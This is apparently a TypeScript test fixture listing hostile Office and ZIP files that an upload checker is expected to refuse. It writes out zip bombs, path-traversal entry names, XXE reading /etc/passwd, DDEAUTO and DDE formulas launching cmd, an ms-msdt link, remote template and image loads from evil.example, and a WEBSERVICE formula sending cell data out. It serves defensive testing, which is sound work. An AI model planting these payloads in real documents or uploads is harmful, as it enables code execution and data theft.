import type { Hostile } from "./hostile";
import { letter, letterText, relations, sheet, sheetText, zip } from "./zips";

/** Letters, sheets and other archives that somebody means ill with. */

const MiB = 1024 * 1024;
const html = "<!doctype html><script>alert(document.domain)</script>";
const compound = (inside = "") =>
  Buffer.concat([
    Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
    Buffer.alloc(504),
    Buffer.from(inside, "utf16le"),
    Buffer.alloc(512),
  ]);

const packedBomb = { data: Buffer.alloc(80 * MiB) };

export const archives: Hostile[] = [
  ["an archive", "a.zip", () => zip([{ name: "a.txt", data: "a" }]), "file_kind_refused"],
  ["the first bytes of an archive", "a.docx", () => Buffer.from([0x50, 0x4b, 3, 4, 20, 0, 0, 0]), "file_is_broken"],
  [
    "a sheet that unpacks to 160 MiB",
    "a.xlsx",
    () =>
      sheet([
        { name: "xl/a.xml", ...packedBomb },
        { name: "xl/b.xml", ...packedBomb },
      ]),
    "file_unpacks_too_large",
  ],
  [
    "a sheet that says it is small",
    "a.xlsx",
    () => sheet([{ name: "xl/a.xml", ...packedBomb, size: 1000 }]),
    "file_unpacks_too_large",
  ],
  [
    "a sheet that says it is large",
    "a.xlsx",
    () => sheet([{ name: "xl/a.xml", data: "<a/>", size: 1000 }]),
    "file_is_broken",
  ],
  [
    "parts over each other",
    "a.xlsx",
    () =>
      sheet([
        { name: "xl/a.xml", ...packedBomb, size: 1000 },
        ...Array.from({ length: 50 }, (_, n) => ({ name: `xl/a${n}.xml`, over: 6, size: 1000, packed: 100 })),
      ]),
    "file_is_broken",
  ],
  [
    "three thousand parts",
    "a.xlsx",
    () => sheet(Array.from({ length: 3000 }, (_, n) => ({ name: `xl/p${n}.xml`, data: "" }))),
    "file_unpacks_too_large",
  ],
  ["fewer parts than it lists", "a.xlsx", () => sheet([], { count: 3 }), "file_is_broken"],
  ["more parts than it lists", "a.xlsx", () => sheet([], { count: 60 }), "file_is_broken"],
  [
    "a method that no part says",
    "a.xlsx",
    () => sheet([{ name: "xl/a.xml", data: "<a/>", localMethod: 0 }]),
    "file_is_broken",
  ],
  [
    "a method that nobody reads",
    "a.xlsx",
    () => sheet([{ name: "xl/a.xml", data: "<a/>", method: 12 }]),
    "file_is_broken",
  ],
  [
    "a part of another name inside",
    "a.xlsx",
    () => sheet([{ name: "xl/a.xml", data: "<a/>", localName: "xl/b.bin" }]),
    "file_is_broken",
  ],
  [
    "a size that no part says",
    "a.xlsx",
    () => sheet([{ name: "xl/a.xml", data: "<a/>", localSize: 9999 }]),
    "file_is_broken",
  ],
  [
    "an archive in an archive in a letter",
    "a.docx",
    () => letter([{ name: "word/embeddings/a.xlsx", data: sheet([{ name: "xl/embeddings/b.xlsx", data: sheet() }]) }]),
    "file_kind_refused",
  ],
  [
    "an archive in a letter",
    "a.docx",
    () => letter([{ name: "word/embeddings/a.zip", data: zip([{ name: "a", data: "" }]) }]),
    "file_kind_refused",
  ],
  ["a part that leads out", "a.docx", () => letter([{ name: "../../etc/cron.d/a", data: "a" }]), "file_is_broken"],
  [
    "a part that leads out by the other stroke",
    "a.docx",
    () => letter([{ name: "word\\..\\..\\a.xml", data: "a" }]),
    "file_is_broken",
  ],
  ["a part with a root", "a.docx", () => letter([{ name: "/etc/passwd", data: "a" }]), "file_is_broken"],
  ["a part on a drive", "a.docx", () => letter([{ name: "C:/a.xml", data: "a" }]), "file_is_broken"],
  [
    "a part that is there twice",
    "a.docx",
    () =>
      zip([
        { name: "[Content_Types].xml", data: "" },
        { name: "[content_types].XML", data: "" },
      ]),
    "file_is_broken",
  ],
  [
    "a link of Unix",
    "a.docx",
    () => letter([{ name: "word/a.xml", data: "/etc/passwd", attributes: (0xa1ff << 16) >>> 0 }]),
    "file_is_broken",
  ],
  ["parts with a password", "a.docx", () => letter([{ name: "word/a.xml", data: "a", flags: 1 }]), "file_is_encrypted"],
];

export const office: Hostile[] = [
  ["a letter with a password", "a.docx", () => compound("EncryptedPackage"), "file_is_encrypted"],
  ["an old letter", "a.doc", () => compound("WordDocument"), "file_kind_refused"],
  ["an old sheet with macros", "a.xls", () => compound("_VBA_PROJECT_CUR"), "file_kind_refused"],
  [
    "a sheet with macros",
    "a.xlsm",
    () => sheet([], {}, "application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
    "file_runs_code",
  ],
  [
    "a letter with macros",
    "a.docm",
    () => letter([], {}, "application/vnd.ms-word.document.macroEnabled.main+xml"),
    "file_runs_code",
  ],
  [
    "a letter with macros, named as one without",
    "a.docx",
    () => letter([{ name: "word/vbaProject.bin", data: "x" }]),
    "file_runs_code",
  ],
  [
    "a letter with a control",
    "a.docx",
    () => letter([{ name: "word/activeX/activeX1.xml", data: "<a/>" }]),
    "file_runs_code",
  ],
  [
    "a letter with an object",
    "a.docx",
    () => letter([{ name: "word/embeddings/oleObject1.bin", data: "MZ" }]),
    "file_runs_code",
  ],
  [
    "a sheet with old macros",
    "a.xlsx",
    () => sheet([{ name: "xl/macrosheets/sheet1.xml", data: "<a/>" }]),
    "file_runs_code",
  ],
  ["a letter with a page in it", "a.docx", () => letter([{ name: "word/afchunk.html", data: html }]), "file_runs_code"],
  [
    "a letter of a template",
    "a.docx",
    () => letter([], {}, "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"),
    "file_kind_refused",
  ],
  [
    "a letter whose template is elsewhere",
    "a.docx",
    () =>
      letter([
        {
          name: "word/_rels/settings.xml.rels",
          data: relations({ type: "attachedTemplate", target: "http://evil.example/a.dotm", external: true }),
        },
      ]),
    "file_links_elsewhere",
  ],
  [
    "a letter whose picture is elsewhere",
    "a.docx",
    () =>
      letter([
        {
          name: "word/_rels/document.xml.rels",
          data: relations({ type: "image", target: "http://evil.example/a.png", external: true }),
        },
      ]),
    "file_links_elsewhere",
  ],
  [
    "a letter whose link is a share",
    "a.docx",
    () =>
      letter([
        {
          name: "word/_rels/document.xml.rels",
          data: relations({ type: "hyperlink", target: "\\\\evil.example\\a", external: true }),
        },
      ]),
    "file_links_elsewhere",
  ],
  [
    "a letter whose link is a script",
    "a.docx",
    () =>
      letter([
        {
          name: "word/_rels/document.xml.rels",
          data: relations({ type: "hyperlink", target: "ms-msdt:/id", external: true }),
        },
      ]),
    "file_links_elsewhere",
  ],
  [
    "a letter that starts a program",
    "a.docx",
    () =>
      letter([
        {
          name: "word/document.xml",
          data: letterText('<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k"</w:instrText>'),
        },
      ]),
    "file_links_elsewhere",
  ],
  [
    "a letter that starts a program, cut in runs",
    "a.docx",
    () =>
      letter([
        {
          name: "word/document.xml",
          data: letterText(
            "<w:instrText>D</w:instrText><w:instrText>DE</w:instrText><w:instrText>AUTO cmd</w:instrText>",
          ),
        },
      ]),
    "file_links_elsewhere",
  ],
  [
    "a letter that fetches text",
    "a.docx",
    () => letter([{ name: "word/footer1.xml", data: '<w:fldSimple w:instr="INCLUDETEXT http://evil.example"/>' }]),
    "file_links_elsewhere",
  ],
  [
    "a sheet with links to others",
    "a.xlsx",
    () => sheet([{ name: "xl/externalLinks/externalLink1.xml", data: "<ddeLink/>" }]),
    "file_links_elsewhere",
  ],
  [
    "a sheet with a connection",
    "a.xlsx",
    () => sheet([{ name: "xl/connections.xml", data: "<connections/>" }]),
    "file_links_elsewhere",
  ],
  [
    "a sheet that asks the web",
    "a.xlsx",
    () =>
      sheet([
        {
          name: "xl/worksheets/sheet1.xml",
          data: sheetText('<row><c r="A1"><f>WEBSERVICE("http://evil.example/"&amp;B1)</f></c></row>'),
        },
      ]),
    "file_links_elsewhere",
  ],
  [
    "a sheet that starts a program",
    "a.xlsx",
    () =>
      sheet([
        { name: "xl/worksheets/sheet1.xml", data: sheetText("<row><c r=\"A1\"><f>cmd|'/c calc'!A1</f></c></row>") },
      ]),
    "file_links_elsewhere",
  ],
  [
    "a letter with an entity",
    "a.docx",
    () =>
      letter([{ name: "word/document.xml", data: `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>` }]),
    "file_kind_refused",
  ],
  [
    "a sheet with entities in entities",
    "a.xlsx",
    () =>
      sheet([
        { name: "xl/sharedStrings.xml", data: `<!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><a>&b;</a>` },
      ]),
    "file_kind_refused",
  ],
  [
    "a sheet with an entity far in",
    "a.xlsx",
    () => sheet([{ name: "xl/sharedStrings.xml", data: `${"<!-- -->".repeat(20_000)}<!DOCTYPE a []><a/>` }]),
    "file_kind_refused",
  ],
  [
    "a letter in another alphabet",
    "a.docx",
    () => letter([{ name: "word/document.xml", data: Buffer.from("\ufeff<!DOCTYPE a []><a/>", "utf16le") }]),
    "file_kind_refused",
  ],
  [
    "a letter that says another alphabet",
    "a.docx",
    () => letter([{ name: "word/document.xml", data: '<?xml version="1.0" encoding="UTF-7"?><a/>' }]),
    "file_kind_refused",
  ],
  [
    "a sheet of 100,000 columns",
    "a.xlsx",
    () =>
      sheet([
        {
          name: "xl/worksheets/sheet1.xml",
          data: sheetText(`<row>${Array.from({ length: 100_000 }, (_, n) => `<c r="${column(n)}1"/>`).join("")}</row>`),
        },
      ]),
    "file_is_broken",
  ],
  [
    "a sheet with a row beyond the last",
    "a.xlsx",
    () => sheet([{ name: "xl/worksheets/sheet1.xml", data: sheetText('<row><c r="A99999999"/></row>') }]),
    "file_is_broken",
  ],
  [
    "a letter without a list of its parts",
    "a.docx",
    () => zip([{ name: "word/document.xml", data: letterText("") }]),
    "file_kind_refused",
  ],
  [
    "a presentation",
    "a.pptx",
    () => letter([], {}, "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"),
    "file_kind_refused",
  ],
  [
    "a Java archive",
    "a.jar",
    () => zip([{ name: "META-INF/MANIFEST.MF", data: "Main-Class: A" }]),
    "file_kind_refused",
  ],
];

function column(n: number): string {
  let name = "";
  for (let left = n + 1; left > 0; left = Math.floor((left - 1) / 26))
    name = String.fromCharCode(65 + ((left - 1) % 26)) + name;
  return name;
}
